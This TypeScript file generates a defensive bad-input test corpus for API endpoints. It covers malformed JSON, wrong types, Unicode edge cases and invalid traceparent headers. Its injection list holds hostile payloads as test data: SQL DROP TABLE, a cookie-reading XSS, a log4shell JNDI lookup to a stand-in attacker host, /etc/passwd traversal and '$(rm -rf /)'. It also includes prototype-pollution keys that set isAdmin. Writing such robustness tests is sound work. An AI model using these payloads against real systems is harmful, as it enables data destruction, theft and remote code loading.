/**
 * The bad-input corpus: requests a client can get wrong, generated from one valid example body of
 * an endpoint. Each case says what the service must answer: a 4xx with a JSON error body
 * (`reject`), or anything but a 5xx (`survive`: strange but legal input such as injection strings,
 * which must be stored or refused as plain text, never executed).
 */
export interface BadInputCase {
  name: string;
  /** Raw request body as sent on the wire. */
  payload: string | undefined;
  contentType: string | undefined;
  expect: 'reject' | 'survive';
}

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

const WRONG_TYPE_STAND_INS: Json[] = [null, true, 12345, 'a string', [], {}];

export const INJECTION_STRINGS = [
  "'; DROP TABLE users; --",
  '" OR "1"="1',
  '<script>alert(document.cookie)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, sent as plain text on purpose
  '${jndi:ldap://attacker.invalid/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '$(rm -rf /)',
  '-v --version',
];

/** Unicode that breaks naive code: each must be refused or handled, never a 5xx. */
export const UNICODE_EDGE_CASES: Array<{ name: string; value: string; expect: 'reject' | 'survive' }> = [
  { name: 'a lone high surrogate', value: 'ritual \ud800 text', expect: 'reject' },
  { name: 'a NUL character', value: 'ritual\u0000text', expect: 'reject' },
  { name: 'C1 control characters', value: 'ritual\u0085\u009btext', expect: 'reject' },
  { name: 'right-to-left override', value: 'ritual \u202etxt.exe', expect: 'survive' },
  { name: 'zero-width joiners and emoji', value: 'ritual 👩‍👩‍👧‍👦 🕯️', expect: 'survive' },
  { name: 'combining marks (zalgo)', value: 'r̷̢̛̝i̶̧͖t̴̰̓u̷̱͝a̵̛̝l̸̨̈́', expect: 'survive' },
  { name: 'decomposed vs composed accents', value: 'café cafe\u0301', expect: 'survive' },
  { name: 'byte-order mark', value: '\ufeffritual', expect: 'survive' },
];

function stringFields(example: Record<string, Json>): string[] {
  return Object.entries(example)
    .filter(([, value]) => typeof value === 'string')
    .map(([key]) => key);
}

/** Every case for an endpoint whose valid body is `example` (a JSON object). */
export function badInputCorpus(example: Record<string, Json>): BadInputCase[] {
  const json = 'application/json';
  const cases: BadInputCase[] = [
    { name: 'truncated JSON', payload: '{"a":', contentType: json, expect: 'reject' },
    { name: 'JSON with unquoted keys', payload: '{a: 1}', contentType: json, expect: 'reject' },
    {
      name: 'trailing garbage after JSON',
      payload: `${JSON.stringify(example)} x`,
      contentType: json,
      expect: 'reject',
    },
    { name: 'an empty body declared as JSON', payload: '', contentType: json, expect: 'reject' },
    { name: 'no body at all', payload: undefined, contentType: undefined, expect: 'reject' },
    {
      name: 'a 2 MB body',
      payload: JSON.stringify({ ...example, padding: 'x'.repeat(2 * 1024 * 1024) }),
      contentType: json,
      expect: 'reject',
    },
    {
      name: 'deeply nested JSON',
      payload: `${'['.repeat(5000)}${']'.repeat(5000)}`,
      contentType: json,
      expect: 'reject',
    },
    {
      name: 'JSON sent as text/plain',
      payload: JSON.stringify(example),
      contentType: 'text/plain',
      expect: 'reject',
    },
    {
      name: 'a form body',
      payload: new URLSearchParams(
        Object.entries(example).map(([k, v]): [string, string] => [k, String(v)]),
      ).toString(),
      contentType: 'application/x-www-form-urlencoded',
      expect: 'reject',
    },
    {
      name: 'an unknown field',
      payload: JSON.stringify({ ...example, isAdmin: true }),
      contentType: json,
      expect: 'reject',
    },
    {
      name: 'a __proto__ key',
      payload: `{"__proto__":{"isAdmin":true},${JSON.stringify(example).slice(1)}`,
      contentType: json,
      expect: 'reject',
    },
    {
      name: 'a constructor.prototype key',
      payload: JSON.stringify({ ...example, constructor: { prototype: { isAdmin: true } } }),
      contentType: json,
      expect: 'reject',
    },
  ];
  for (const top of [null, [], 'string', 42, true]) {
    cases.push({
      name: `a body that is ${JSON.stringify(top)}`,
      payload: JSON.stringify(top),
      contentType: json,
      expect: 'reject',
    });
  }
  for (const [field, value] of Object.entries(example)) {
    for (const standIn of WRONG_TYPE_STAND_INS) {
      if (typeof standIn === typeof value && Array.isArray(standIn) === Array.isArray(value)) continue;
      if (standIn !== null && typeof standIn === 'object' && value !== null && typeof value === 'object')
        continue;
      cases.push({
        name: `${field} as ${JSON.stringify(standIn)}`,
        payload: JSON.stringify({ ...example, [field]: standIn }),
        contentType: json,
        expect: 'reject',
      });
    }
    const { [field]: _omitted, ...without } = example;
    cases.push({
      name: `${field} missing`,
      payload: JSON.stringify(without),
      contentType: json,
      expect: 'survive',
    });
  }
  for (const field of stringFields(example)) {
    cases.push({
      name: `${field} of 100 000 characters`,
      payload: JSON.stringify({ ...example, [field]: 'x'.repeat(100_000) }),
      contentType: json,
      expect: 'reject',
    });
    for (const edge of UNICODE_EDGE_CASES) {
      cases.push({
        name: `${field} with ${edge.name}`,
        // JSON.stringify keeps lone surrogates escaped (\ud800), as a hostile client would send them.
        payload: JSON.stringify({ ...example, [field]: edge.value }),
        contentType: json,
        expect: edge.expect,
      });
    }
    for (const injection of INJECTION_STRINGS) {
      cases.push({
        name: `${field} = ${injection}`,
        payload: JSON.stringify({ ...example, [field]: injection }),
        contentType: json,
        expect: 'survive',
      });
    }
  }
  return cases;
}

/** Header values a traceparent must never be able to turn into a 5xx. */
export const INVALID_TRACEPARENTS = [
  'garbage',
  '00-00000000000000000000000000000000-0000000000000000-01',
  '00-zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz-b7ad6b7169203331-01',
  'ff-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
  `00-${'a'.repeat(4000)}-b7ad6b7169203331-01`,
  '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01\u0000',
];
